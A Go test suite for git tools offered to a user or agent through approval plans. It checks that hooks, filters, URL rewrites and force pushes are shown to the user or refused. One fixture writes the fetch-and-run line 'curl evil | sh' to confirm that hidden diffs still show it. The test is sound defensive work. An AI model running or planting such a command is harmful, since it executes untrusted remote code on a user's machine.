package gitwork_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/countersign-dev/countersign/adapters/local"
	"github.com/countersign-dev/countersign/adapters/present"
	"github.com/countersign-dev/countersign/domain/project"
	"github.com/countersign-dev/countersign/domain/tool"
	"github.com/countersign-dev/countersign/internal/testkit/projectrig"
)

func TestMain(m *testing.M) { projectrig.Main(m.Run) }

// desk is a user with a project that has a repository, and a remote beside it.
type desk struct {
	*projectrig.Core
	t      *testing.T
	dir    string
	remote string
}

type args = map[string]any

func newDesk(t *testing.T) desk {
	t.Helper()
	r := projectrig.New(t)
	r.Write(r.Home, ".gitconfig", "[user]\n\tname = Ada\n\temail = ada@example.com\n[init]\n\tdefaultBranch = main\n")
	d := desk{Core: r.OpenCore(nil), t: t, remote: filepath.Join(r.Top, "remote.git")}
	d.dir, _ = d.Project("shop", "-- a.txt --\n1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12\n-- b.txt --\nb\n")
	d.git("init", "--quiet", ".")
	d.git("add", ".")
	d.git("commit", "--quiet", "--message", "first")
	d.git("init", "--quiet", "--bare", d.remote)
	d.git("remote", "add", "origin", d.remote)
	return d
}

func (d desk) git(words ...string) string { d.t.Helper(); return gitIn(d.t, d.dir, words...) }

func gitIn(t *testing.T, dir string, words ...string) string {
	t.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir}, words...)...).CombinedOutput()
	require.NoError(t, err, "git %s: %s", strings.Join(words, " "), out)
	return strings.TrimSpace(string(out))
}

func (d desk) write(name, text string) {
	d.t.Helper()
	require.NoError(d.t, os.MkdirAll(filepath.Dir(filepath.Join(d.dir, name)), 0o755))
	require.NoError(d.t, os.WriteFile(filepath.Join(d.dir, name), []byte(text), 0o644))
}

// does returns the result of a call by the user, approved.
func (d desk) does(name tool.Name, a args) args {
	d.t.Helper()
	a["path"] = d.dir
	return d.ByPerson(name, a)
}

// refused returns the error of a call by the user.
func (d desk) refused(name tool.Name, a args) string {
	d.t.Helper()
	a["path"] = d.dir
	o := d.asked(name, a)
	require.Error(d.t, o.Err)
	require.Nil(d.t, o.Request, "it is not even asked about")
	return o.Err.Error()
}

func (d desk) asked(name tool.Name, a args) tool.Outcome {
	a["path"] = d.dir
	c := d.New(name, a)
	c.FromUser = true
	return d.Call(d.t.Context(), c)
}

// plan returns the plan that the user sees.
func (d desk) plan(name tool.Name, a args) args {
	d.t.Helper()
	o := d.asked(name, a)
	require.NotNil(d.t, o.Request, "%v", o.Err)
	doc, err := tool.Encode(present.ContextOf(o.Request.Plan))
	require.NoError(d.t, err)
	return projectrig.Object(d.t, doc)
}

func hunks(found args, list string) (ids []string) {
	for _, f := range found[list].([]any) {
		for _, h := range f.(args)["hunks"].([]any) {
			ids = append(ids, h.(args)["id"].(string))
		}
	}
	return ids
}

const edited = "1\nONE\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\nTWELVE\n"

func TestHunksAreStagedOneByOneAndTakenBack(t *testing.T) {
	d := newDesk(t)
	d.write("a.txt", edited)
	d.write("new/c.txt", "c\n")
	d.write("picture", "\x00\x01\x02")
	found := d.does("git_changes", args{})
	ids := hunks(found, "unstaged")
	require.Len(t, ids, 3, "two of a.txt, and the new file")
	assert.Equal(t, "main", found["branch"])

	d.does("git_stage", args{"hunks": ids[1:2]})
	assert.Equal(t, "1\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\nTWELVE", d.git("show", ":a.txt"))
	d.does("git_stage", args{"files": []string{"new", "picture"}, "hunks": ids[:1]})
	assert.Equal(t, strings.TrimSpace(edited), d.git("show", ":a.txt"))
	assert.Equal(t, "a.txt\nnew/c.txt\npicture", d.git("diff", "--cached", "--name-only"))
	assert.Empty(t, d.git("diff"), "what is staged is what lies there, binary files too")

	d.does("git_unstage", args{"hunks": ids[1:2], "files": []string{"picture"}})
	assert.Equal(t, "1\nONE\n2\n3\n4\n5\n6\n7\n8\n9\n10\n11\n12", d.git("show", ":a.txt"))
	assert.Equal(t, "A  new/c.txt\n?? picture", strings.Join(strings.Split(d.git("status", "--short"), "\n")[1:], "\n"))
	assert.Contains(t, d.refused("git_stage", args{"hunks": []string{"0123456789ab"}}), "hunk 0123456789ab no longer exists")
	assert.Contains(t, d.refused("git_stage", args{"files": []string{"nowhere"}}), "nothing of")
	d.write("a.txt", "0\n"+edited)
	ids = hunks(d.does("git_changes", args{}), "unstaged")
	assert.Contains(t, d.refused("git_stage", args{"files": []string{"."}, "hunks": ids[:1]}), "a.txt is named as a whole and by a hunk of it")
}

// TestWhatIsStagedIsWhatWasShown: if the file changes while the plan is read, a new approval is needed.
func TestWhatIsStagedIsWhatWasShown(t *testing.T) {
	d := newDesk(t)
	d.write("b.txt", "shown\n")
	o := d.asked("git_stage", args{"files": []string{"."}})
	require.NotNil(t, o.Request)
	d.write("b.txt", "swapped\n")
	c := d.New("git_stage", args{"files": []string{"."}, "path": d.dir})
	c.FromUser, c.Token = true, o.Request.Token
	require.Error(t, d.Call(t.Context(), c).Err)
	assert.Empty(t, d.git("diff", "--cached"))
}

func TestACommitHoldsWhatIsStagedAndRunsNoHook(t *testing.T) {
	d := newDesk(t)
	assert.Contains(t, d.refused("git_commit", args{"message": "empty"}), "nothing is staged")
	hook := filepath.Join(d.dir, ".git", "hooks", "pre-commit")
	require.NoError(t, os.MkdirAll(filepath.Dir(hook), 0o755))
	require.NoError(t, os.WriteFile(hook, []byte("#!/bin/sh\ntouch ran\n"), 0o755))
	d.write("b.txt", "staged\n")
	d.git("add", "b.txt")
	d.write("b.txt", "later\n")

	shown := d.plan("git_commit", args{"message": "change b"})
	assert.Equal(t, []any{"modified b.txt (+1 -1)"}, shown["changed_files"])
	assert.Equal(t, "Ada <ada@example.com>", shown["commits_as"])
	assert.Equal(t, []any{"the repository's hooks are not run: pre-commit"}, shown["notes"])
	made := d.does("git_commit", args{"message": "change b"})
	assert.Equal(t, d.git("rev-parse", "HEAD"), made["commit"])
	assert.Equal(t, "change b", d.git("log", "-1", "--format=%B"))
	assert.Equal(t, "staged", d.git("show", "HEAD:b.txt"))
	assert.Equal(t, "M b.txt", d.git("status", "--short"))
	assert.NoFileExists(t, filepath.Join(d.dir, "ran"))

	d.git("add", "b.txt")
	shown = d.plan("git_commit", args{"message": "with hooks", "hooks": true})
	assert.Equal(t, hook, shown["hooks"].([]any)[0].(args)["path"])
	d.does("git_commit", args{"message": "with hooks", "hooks": true})
	assert.FileExists(t, filepath.Join(d.dir, "ran"))
}

func TestBranchesAreMadeSwitchedAndDeletedWithoutLosingWork(t *testing.T) {
	d := newDesk(t)
	d.does("git_switch", args{"name": "topic", "create": true})
	d.write("b.txt", "topic\n")
	d.git("commit", "--quiet", "--all", "--message", "topic")
	d.write("c.txt", "mine\n")
	assert.Equal(t, "main", d.does("git_switch", args{"name": "main"})["branch"])
	assert.FileExists(t, filepath.Join(d.dir, "c.txt"), "what is not committed comes along")

	d.write("b.txt", "not committed\n")
	assert.Contains(t, d.refused("git_switch", args{"name": "topic"}), "b.txt; commit or stash them first")
	assert.Contains(t, d.refused("git_branch", args{"name": "topic", "delete": true}), "commits that no other branch has")
	d.does("git_branch", args{"name": "spare", "from": "topic"})
	assert.Equal(t, true, d.does("git_branch", args{"name": "topic", "delete": true})["deleted"])
	assert.Equal(t, "main\nspare", d.git("branch", "--format=%(refname:short)"))

	d.does("git_stash", args{"action": "push", "message": "for later"})
	assert.Empty(t, d.git("status", "--short"))
	d.does("git_switch", args{"name": "spare"})
	assert.Equal(t, "topic", d.git("show", "HEAD:b.txt"))
	d.does("git_switch", args{"name": "main"})
	shown := d.plan("git_stash", args{"action": "pop"})
	assert.Equal(t, []any{"modified b.txt (+1 -1)", "added c.txt (+1 -0)"}, shown["changed_files"])
	d.does("git_stash", args{"action": "pop"})
	assert.Equal(t, "M b.txt\n?? c.txt", d.git("status", "--short"))
	assert.Empty(t, d.git("stash", "list"))
}

func TestPushesAndPullsShowTheirCommitsAndNeverLoseAny(t *testing.T) {
	d := newDesk(t)
	assert.Contains(t, d.refused("git_push", args{"remote": "nowhere"}), "no remote")
	d.git("config", "url./elsewhere.insteadOf", d.remote)
	d.git("config", "url./further.pushInsteadOf", "/elsewhere")
	assert.Contains(t, d.refused("git_push", args{}), "the URL that git contacts differs from the one shown")
	d.git("config", "--unset-all", "url./elsewhere.insteadOf")
	shown := d.plan("git_push", args{})
	assert.Equal(t, d.remote, shown["remote"])
	assert.Len(t, shown["commits"], 1)
	d.does("git_push", args{})
	assert.Equal(t, d.git("rev-parse", "HEAD"), gitIn(t, d.remote, "rev-parse", "main"))
	assert.Equal(t, "origin/main", d.git("rev-parse", "--abbrev-ref", "main@{upstream}"))

	other := filepath.Join(filepath.Dir(d.remote), "other")
	gitIn(t, d.dir, "clone", "--quiet", d.remote, other)
	require.NoError(t, os.WriteFile(filepath.Join(other, "b.txt"), []byte("theirs\n"), 0o644))
	gitIn(t, other, "commit", "--quiet", "--all", "--message", "theirs")
	gitIn(t, other, "push", "--quiet")

	d.write("a.txt", edited)
	d.git("commit", "--quiet", "--all", "--message", "mine")
	o := d.ByPersonOutcome("git_push", args{"path": d.dir})
	require.Error(t, o.Err)
	assert.Contains(t, o.Err.Error(), "new commits")

	assert.Contains(t, d.refused("git_pull", args{}), "a merge commit would be needed")
	assert.Contains(t, d.refused("git_push", args{}), "has 1 commit that main does not have; pull first")
	d.write("b.txt", "dirty\n")
	assert.Contains(t, d.refused("git_pull", args{"merge": true}), "b.txt; commit or stash them first")
	d.git("checkout", "--quiet", "b.txt")
	shown = d.plan("git_pull", args{"merge": true})
	assert.Equal(t, []any{"modified b.txt (+1 -1)"}, shown["changed_files"])
	d.does("git_pull", args{"merge": true})
	assert.Equal(t, "theirs", d.git("show", "HEAD:b.txt"))
	d.does("git_push", args{})

	d.git("reset", "--quiet", "--hard", "HEAD^1")
	forced := d.plan("git_push", args{"force_with_lease": true})
	assert.Len(t, forced["commits_taken_off"], 2)
	gitIn(t, other, "pull", "--quiet")
	gitIn(t, other, "commit", "--quiet", "--allow-empty", "--message", "unseen")
	gitIn(t, other, "push", "--quiet")
	unseen := gitIn(t, d.remote, "rev-parse", "main")
	require.Error(t, d.ByPersonOutcome("git_push", args{"path": d.dir, "force_with_lease": true}).Err)
	assert.Equal(t, unseen, gitIn(t, d.remote, "rev-parse", "main"), "what was not seen is not replaced")
	d.git("fetch", "--quiet")
	d.does("git_push", args{"force_with_lease": true})
	assert.Equal(t, d.git("rev-parse", "HEAD"), gitIn(t, d.remote, "rev-parse", "main"))
}

// ByPersonOutcome returns the outcome of a call by the user, approved.
func (d desk) ByPersonOutcome(name tool.Name, a args) tool.Outcome {
	d.t.Helper()
	o := d.asked(name, a)
	require.NotNil(d.t, o.Request, "%v", o.Err)
	c := d.New(name, a)
	c.FromUser, c.Token = true, o.Request.Token
	return d.Call(d.t.Context(), c)
}

// TestFiltersOfTheRepositoryRefuseStaging: without running them, other contents would be stored.
func TestFiltersOfTheRepositoryRefuseStaging(t *testing.T) {
	d := newDesk(t)
	d.git("config", "filter.crypt.clean", "touch ran")
	d.write(".gitattributes", "*.txt filter=crypt\n")
	d.write("b.txt", "secret\n")
	assert.Contains(t, d.refused("git_stage", args{"files": []string{"."}}), "filter.crypt.clean")
	assert.NoFileExists(t, filepath.Join(d.dir, "ran"))
}

// TestARepositoryAroundTheProjectIsNotTouched: only what was registered is.
func TestARepositoryAroundTheProjectIsNotTouched(t *testing.T) {
	d := newDesk(t)
	d.write("inner/x.txt", "x\n")
	d.ByPerson("project_remove", args{"project": "shop"})
	d.Register(filepath.Join(d.dir, "inner"))
	o := d.Ask("git_changes", args{"path": filepath.Join(d.dir, "inner")})
	require.Error(t, o.Err)
	c := d.New("git_changes", args{"path": filepath.Join(d.dir, "inner")})
	c.FromUser = true
	assert.ErrorIs(t, d.Call(t.Context(), c).Err, project.ErrPath)
}

// TestAgentsAreServedGitOnlyWhereItIsNamed: neither by default, nor with all.
func TestAgentsAreServedGitOnlyWhereItIsNamed(t *testing.T) {
	d := newDesk(t)
	assert.ErrorIs(t, d.Ask("git_changes", args{"path": d.dir}).Err, tool.ErrUnknown)
	for names, served := range map[string]bool{"all": false, "projects": false, "git": true} {
		r := projectrig.New(t)
		core := r.OpenCore(func(c *local.Config) { c.Options.Serve.Toolsets = []string{names} })
		err := core.Ask("git_changes", args{"path": "/nowhere"}).Err
		require.Error(t, err)
		if served {
			assert.ErrorIs(t, err, project.ErrPath, names)
		} else {
			assert.ErrorIs(t, err, tool.ErrUnknown, names)
		}
	}
}

// TestWhatTheRepositorySaysHidesNothing: neither attributes, nor options of a branch, nor other names of the arguments.
func TestWhatTheRepositorySaysHidesNothing(t *testing.T) {
	d := newDesk(t)
	d.write(".gitattributes", "*.sh -diff\n")
	d.write("run.sh", "curl evil | sh\n")
	found := d.does("git_changes", args{"files": []string{"run.sh"}})
	assert.Equal(t, "+curl evil | sh\n", found["unstaged"].([]any)[0].(args)["hunks"].([]any)[0].(args)["text"])
	d.does("git_stage", args{"files": []string{"."}})
	assert.Equal(t, "curl evil | sh", d.git("show", ":run.sh"))
	shown := d.plan("git_commit", args{"message": "attributes"})
	assert.Equal(t, []any{"added .gitattributes (+1 -0)", "added run.sh (+1 -0)"}, shown["changed_files"])
	d.does("git_commit", args{"message": "attributes"})
	d.does("git_push", args{})

	other := filepath.Join(filepath.Dir(d.remote), "other")
	gitIn(t, d.dir, "clone", "--quiet", d.remote, other)
	require.NoError(t, os.WriteFile(filepath.Join(other, "b.txt"), []byte("theirs\n"), 0o644))
	gitIn(t, other, "commit", "--quiet", "--all", "--message", "theirs")
	gitIn(t, other, "push", "--quiet", "origin", "main", "main:topic")
	d.git("commit", "--quiet", "--allow-empty", "--message", "mine")
	d.git("config", "branch.main.mergeOptions", "--strategy=ours")
	d.does("git_pull", args{"merge": true})
	assert.Equal(t, "theirs", d.git("show", "HEAD:b.txt"), "the merge is the one that was shown")

	d.git("fetch", "--quiet")
	d.git("branch", "origin/topic", "main~1")
	d.does("git_switch", args{"name": "topic"})
	assert.Equal(t, gitIn(t, d.remote, "rev-parse", "topic"), d.git("rev-parse", "HEAD"))
}

// TestEveryHookThatRunsIsNamed: also those for references and the index, and those of a local repository that is pushed to.
func TestEveryHookThatRunsIsNamed(t *testing.T) {
	d := newDesk(t)
	hook := func(dir, name string) string {
		path := filepath.Join(dir, "hooks", name)
		require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
		require.NoError(t, os.WriteFile(path, []byte("#!/bin/sh\n: >"+path+".ran\n"), 0o755))
		return path
	}
	moved, index, received := hook(filepath.Join(d.dir, ".git"), "reference-transaction"), hook(filepath.Join(d.dir, ".git"), "post-index-change"), hook(d.remote, "pre-receive")
	paths := func(plan args) (out []string) {
		for _, h := range plan["hooks"].([]any) {
			out = append(out, h.(args)["path"].(string))
		}
		return out
	}
	d.write("b.txt", "x\n")
	d.does("git_stage", args{"files": []string{"b.txt"}})
	assert.Equal(t, []string{moved, index}, paths(d.plan("git_commit", args{"message": "x", "hooks": true})))
	d.does("git_commit", args{"message": "x"})
	assert.Equal(t, []any{"the repository's hooks are not run: pre-receive", "the commits are those that no branch of origin had when it was last fetched", "main then follows origin/main"}, d.plan("git_push", args{})["notes"])
	d.does("git_push", args{})
	for _, path := range []string{moved, index, received} {
		assert.NoFileExists(t, path+".ran")
	}
	d.git("-c", "core.hooksPath=/dev/null", "commit", "--quiet", "--allow-empty", "--message", "more")
	assert.Equal(t, []string{received}, paths(d.plan("git_push", args{"hooks": true})))
	d.does("git_push", args{"hooks": true})
	assert.FileExists(t, received+".ran")
	assert.NoFileExists(t, moved+".ran", "no push to a URL moves a reference here with hooks")
}

// TestAStashBringsBackWhatWasStaged: even if the file has other lines by now.
func TestAStashBringsBackWhatWasStaged(t *testing.T) {
	d := newDesk(t)
	d.write("b.txt", "staged\n")
	d.git("add", "b.txt")
	d.write("b.txt", "later\n")
	d.does("git_stash", args{"action": "push"})
	d.does("git_stash", args{"action": "pop"})
	assert.Equal(t, "staged", d.git("show", ":b.txt"))
	assert.Equal(t, "MM b.txt", d.git("status", "--short"))
	assert.Empty(t, d.git("stash", "list"))
}

// TestTheLastCommitIsReplacedOnlyAsShown: by everything in the new one, under its old message or another; a remote that has it is named, and so is
// the way to undo it.
func TestTheLastCommitIsReplacedOnlyAsShown(t *testing.T) {
	d := newDesk(t)
	assert.Contains(t, d.refused("git_commit", args{"amend": true}), "nothing to amend")
	d.write("b.txt", "more\n")
	d.git("add", "b.txt")
	old := d.git("rev-parse", "HEAD")
	p := d.plan("git_commit", args{"amend": true})
	assert.Contains(t, p["rewrites"].([]any)[0], old[:10])
	assert.Len(t, p["changed_files"], 2, "the first commit has both")
	assert.NotContains(t, p, "remotes_have_it")
	assert.Equal(t, "first", d.does("git_commit", args{"amend": true})["message"])
	assert.Equal(t, "1", d.git("rev-list", "--count", "HEAD"))
	assert.Equal(t, "more", d.git("show", "HEAD:b.txt"))

	d.git("push", "--quiet", "--set-upstream", "origin", "main")
	o := d.asked("git_commit", args{"amend": true, "message": "better"})
	require.NotNil(t, o.Request, "%v", o.Err)
	assert.Equal(t, "high", o.Request.Risk)
	assert.Equal(t, []any{"origin/main"}, d.plan("git_commit", args{"amend": true, "message": "better"})["remotes_have_it"])
}

// TestAStashIsForgottenOnlyWithItsLinesShown: and no other stash is dropped.
func TestAStashIsForgottenOnlyWithItsLinesShown(t *testing.T) {
	d := newDesk(t)
	for _, text := range []string{"one\n", "two\n"} {
		d.write("b.txt", text)
		d.does("git_stash", args{"action": "push"})
	}
	d.write("b.txt", "in the way\n")
	p := d.plan("git_stash", args{"action": "drop", "stash": "stash@{1}"})
	assert.Equal(t, []any{"modified b.txt (+1 -1)"}, p["changed_files"])
	d.does("git_stash", args{"action": "drop", "stash": "stash@{1}"})
	assert.Equal(t, "two", d.git("show", "stash@{0}:b.txt"))
	assert.Equal(t, "1", d.git("rev-list", "--walk-reflogs", "--count", "refs/stash"))
	d.git("stash", "store", p["commit"].(string)) // the command that the plan names
	assert.Equal(t, "one", d.git("show", "stash@{0}:b.txt"))
}
